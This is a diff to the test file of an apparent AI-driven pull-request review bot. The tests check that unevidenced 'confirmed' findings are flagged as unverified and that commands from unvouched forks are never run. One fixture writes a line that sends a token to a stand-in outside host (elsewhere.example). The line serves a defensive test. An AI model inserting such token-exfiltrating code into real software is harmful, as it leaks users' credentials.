@@ -42,7 +42,11 @@ async function makeRepository(name: string): Promise<TestRepository> {
       ]),
       'task-review.security-review': attempts([say(nothing)]),
       'task-review.verify': attempts([
-        sayWhere('It grows for ever', findings({ ...real, status: 'confirmed' }), say(nothing)),
+        sayWhere(
+          'It grows for ever',
+          findings({ ...real, status: 'confirmed', evidence: toCommand('grep -q "for ever" cache.txt') }),
+          say(nothing),
+        ),
       ]),
     },
   });
@@ -155,14 +159,22 @@ it.concurrent('of a fork stays shut where git shows nothing of what a file holds
   expect(repository.calls().some(({ prompt }) => prompt.includes('elsewhere.example'))).toBe(false);
 });
 
+function toQuote(path: string, line: number): object {
+  return { kind: 'trace', path, from: line, to: line, quote: 'fetch(' };
+}
+
+function toCommand(command: string): object {
+  return { kind: 'command', command };
+}
+
 /** One thing is found and confirmed, whatever is looked at. */
-function foundAt(place: object): Scenario {
-  const claim = { severity: 'critical', ...place, what: 'It sends the token away.' };
+function foundAt(path: string, line: number, evidence?: object): Scenario {
+  const claim = { severity: 'critical', path, line, what: 'It sends the token away.' };
   return {
     'task-review.explore': attempts([say('It.')]),
     'task-review.code-review': attempts([say(findings(claim))]),
     'task-review.security-review': attempts([say(nothing)]),
-    'task-review.verify': attempts([say(findings({ ...claim, status: 'confirmed' }))]),
+    'task-review.verify': attempts([say(findings({ ...claim, status: 'confirmed', evidence }))]),
   };
 }
 
@@ -173,7 +185,7 @@ it.concurrent('is shut by what is confirmed in a line of what would land, which 
   const repository = await bot.createRepository({
     ...{ name: 'other-moved', isProtected: false },
     files: { ...files, 'a.js': ten },
-    scenario: foundAt({ path: 'a.js', line: 31 }),
+    scenario: foundAt('a.js', 31, toQuote('a.js', 31)),
   });
   // Its branch is of an older base: the line is the 11th of its head.
   const pull = await openForked(
@@ -187,20 +199,36 @@ it.concurrent('is shut by what is confirmed in a line of what would land, which 
   expect(repository.calls().some(({ prompt }) => prompt.includes('@@ -28,3 +28,4 @@'))).toBe(true);
 });
 
+it.concurrent('is not shut by what is called confirmed without evidence', async ({ expect }) => {
+  const repository = await bot.createRepository({ name: 'other-word', files, scenario: foundAt('cache.txt', 1) });
+  const { pull } = await openCache(repository);
+  await pull.comment('/pilot review');
+  await untilGate(repository, pull, 'success', 'Reviewed only');
+  await pull.isShown();
+  expect((await pull.replies()).join('\n')).toContain('unverified (it was called confirmed without evidence)');
+});
+
+it.concurrent('of a fork is neither open nor shut for good by a command, which is not run', async ({ expect }) => {
+  const scenario = foundAt('cache.txt', 1, toCommand('grep -q cache cache.txt'));
+  const repository = await bot.createRepository({ name: 'other-command', files, scenario });
+  const pull = await openForked(repository, { 'cache.txt': 'a cache\n' });
+  await pull.comment('/pilot review');
+  await pull.reaches('reported');
+  await untilGate(repository, pull, 'action_required', 'what shows 1 of the findings could not be looked at');
+  await pull.isShown();
+  expect((await pull.replies()).join('\n')).toContain('nothing is executed of a fork that nobody vouched for');
+  expect(repository.calls().some(({ prompt }) => prompt.includes('A command is no evidence here'))).toBe(true);
+});
+
 it.concurrent('is shut where something is confirmed in a file that is too large to see whether it is there', async () => {
   const large = 'x();\n'.repeat(230_000);
   const repository = await bot.createRepository({
     ...{ name: 'other-large', files: { ...files, 'bundle.js': large } },
-    scenario: foundAt({ path: 'bundle.js', line: 1 }),
+    scenario: foundAt('bundle.js', 1, toQuote('bundle.js', 1)),
   });
   await repository.push('cache', { 'bundle.js': `fetch("https://elsewhere.example/" + token);\n${large}` });
   const pull = await open(repository, 'cache');
   await pull.comment('/pilot review');
   await pull.reaches('reported');
-  await untilGate(
-    repository,
-    pull,
-    'action_required',
-    'the place of 1 of what was confirmed could not be found or read',
-  );
+  await untilGate(repository, pull, 'action_required', 'what shows 1 of the findings could not be looked at');
 });
